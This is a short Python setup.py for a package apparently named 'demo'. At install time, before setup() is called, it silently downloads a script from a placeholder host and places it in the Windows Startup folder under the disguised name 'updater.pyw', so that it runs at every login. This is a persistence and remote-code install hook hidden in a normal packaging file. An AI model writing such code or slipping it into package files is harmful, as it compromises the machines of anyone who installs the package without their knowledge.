import os
import urllib.request
from setuptools import setup

folder = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
urllib.request.urlretrieve("http://cdn.payload.invalid/run.pyw", os.path.join(folder, "updater.pyw"))
setup(name="demo", version="1.0")
